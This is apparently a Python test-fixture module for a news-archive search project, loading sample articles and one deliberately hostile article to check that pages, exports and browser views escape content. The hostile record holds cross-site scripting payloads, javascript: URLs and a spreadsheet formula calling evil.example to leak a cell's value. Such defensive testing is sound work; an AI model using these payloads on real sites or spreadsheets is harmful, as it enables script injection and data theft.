"""Data the web, export and browser tests share: the bundled sample plus one hostile article.

The hostile article is what a malicious or broken news page could put in the
archive: markup and script in its title, text, names, places and source, and a
title that is a spreadsheet formula. Its evidence capture is a page full of
script. No page, export or frame may run any of it.
"""

from __future__ import annotations

import html
from dataclasses import replace
from pathlib import Path

from homeward.article import Article, read_jsonl
from search.evidence import Capture, WarcEvidenceWriter
from search.open import open_archive

SAMPLE = Path(__file__).resolve().parent / "data" / "sample_articles.jsonl"
SAMPLE_COUNT = 12
CAPTURED_SAMPLE = "/shanxi-family-reunited"

HOSTILE_TITLE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click") '
    "<img src=x onerror=alert(1)> <script>alert(2)</script> trafficking ring"
)
HOSTILE_RECORD = {
    "url": "https://hostile.test/story?x=<script>",
    "title": HOSTILE_TITLE,
    "text": (
        "<script>alert(3)</script> Police said the trafficking ring "
        '<img src=x onerror=alert(4)> sold children. =HYPERLINK("http://evil.example")\n'
        "@SUM(1+1) second paragraph about the hostile case."
    ),
    "language": "en",
    "published": "2025-03-01",
    "source": '"><script>alert(5)</script>',
    "names": ["<img src=x onerror=alert(6)>", "Zhang Hostile"],
    "places": [{"name": "<script>alert(7)</script>", "lat": 10.0, "lon": 20.0}],
    "years": [2001],
    "relevance": 3.0,
    "relevance_terms": ["<b>trafficking</b>"],
    "duplicates": ["javascript:alert(8)", "https://mirror.test/copy"],
}
CAPTURED_PAGE = (
    b"<html><head><title>captured</title><script>alert(9)</script></head><body>"
    b"<h1>Captured hostile page</h1><img src=x onerror=alert(10)>"
    b'<iframe src="javascript:alert(11)"></iframe>'
    b'<form action="https://evil.example/"><input name=q></form>'
    b"<p>Police said the trafficking ring sold children.</p></body></html>"
)


def sample_articles() -> list[Article]:
    with SAMPLE.open(encoding="utf-8") as lines:
        return list(read_jsonl(lines))


def hostile_article(evidence_dir: Path) -> Article:
    """The hostile article, with a real WARC capture written to `evidence_dir`."""
    with WarcEvidenceWriter(evidence_dir) as writer:
        evidence = writer.write(
            Capture(
                url=HOSTILE_RECORD["url"],
                status=200,
                headers=[("Content-Type", "text/html; charset=utf-8")],
                body=CAPTURED_PAGE,
                captured_at="2025-03-02T08:00:00+00:00",
            )
        )
    return Article.from_dict({**HOSTILE_RECORD, "evidence": evidence})


def with_capture(article: Article, evidence_dir: Path) -> Article:
    """A sample article with a capture of a plain page holding its text, as a crawl keeps."""
    paragraphs = "".join(f"<p>{html.escape(p)}</p>" for p in article.text.split("\n"))
    page = (
        f"<html><head><title>{html.escape(article.title)}</title>"
        "<style>body{font-family:serif;max-width:40em;margin:1em auto}</style></head>"
        f"<body><nav>Harbour Herald · World · Asia</nav><h1>{html.escape(article.title)}</h1>"
        f"{paragraphs}<aside>Most read: …</aside></body></html>"
    )
    with WarcEvidenceWriter(evidence_dir) as writer:
        evidence = writer.write(
            Capture(
                url=article.url,
                status=200,
                headers=[("Content-Type", "text/html; charset=utf-8")],
                body=page.encode("utf-8"),
                captured_at="2024-05-14T10:02:11+00:00",
            )
        )
    return replace(article, evidence=evidence)


def load_archive(archive_url: str, evidence_dir: Path) -> Article:
    """Fill the archive at `archive_url` with the sample and the hostile article; the
    Shanxi story (`CAPTURED_SAMPLE`) and the hostile article have evidence captures."""
    hostile = hostile_article(evidence_dir)
    articles = [
        with_capture(a, evidence_dir) if a.url.endswith(CAPTURED_SAMPLE) else a
        for a in sample_articles()
    ]
    with open_archive(archive_url) as archive:
        report = archive.upsert([*articles, hostile])
        assert report.failed == []
        archive.refresh()
    return hostile
